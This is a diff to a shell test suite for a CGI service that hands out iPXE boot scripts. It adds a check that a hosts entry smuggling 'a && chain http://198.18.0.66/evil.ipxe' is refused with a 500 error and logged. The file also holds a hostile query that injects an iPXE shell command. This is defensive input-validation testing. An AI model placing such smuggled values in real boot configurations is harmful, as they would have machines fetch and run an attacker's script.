@@ -7,7 +7,7 @@ HERE=$(dirname "$0")
 . "$HERE/tools/bootcfg.sh"
 
 bootcfg_require
-plan 17
+plan 20
 
 bc_cgi "mac=52:54:00:12:34:03"
 is "$RC" 0 "known host: exit 0"
@@ -37,6 +37,16 @@ for q in 'mac=..%0a#!ipxe%0ashell' 'mac=52:54:00:12:34:03%00' \
 		pass "hostile query refused: $(printf '%.40s' "$q")"
 	fi
 done
+
+# A host whose value iPXE would run as a command gets no script.
+printf '[profile t]\nkernel = /linux\nappend = site=@SITE@\n' >"$T/prof-inj"
+printf '%s\n' '52:54:00:12:34:01 node1 198.18.0.11 t site="a && chain http://198.18.0.66/evil.ipxe #"' >"$T/hosts-inj"
+QUERY_STRING=mac=52:54:00:12:34:01 BOOTCFG_HOSTS=$T/hosts-inj \
+	BOOTCFG_PROFILES=$T/prof-inj run "$BOOTCFG" --cgi
+like "$(head -n 1 "$T/out")" "^Status: 500" "injected command: 500"
+ok "no executable && served" sh -c "! grep -q -e '&&' -e 'chain' '$T/out'"
+like "$(cat "$T/err")" "hosts-inj:1: host node1: kernel arguments: '&&'" \
+	"and why in the server's log"
 
 QUERY_STRING=mac=52:54:00:12:34:03 BOOTCFG_HOSTS=$T/missing \
 	BOOTCFG_PROFILES=$BCDATA/profiles run "$BOOTCFG" --cgi
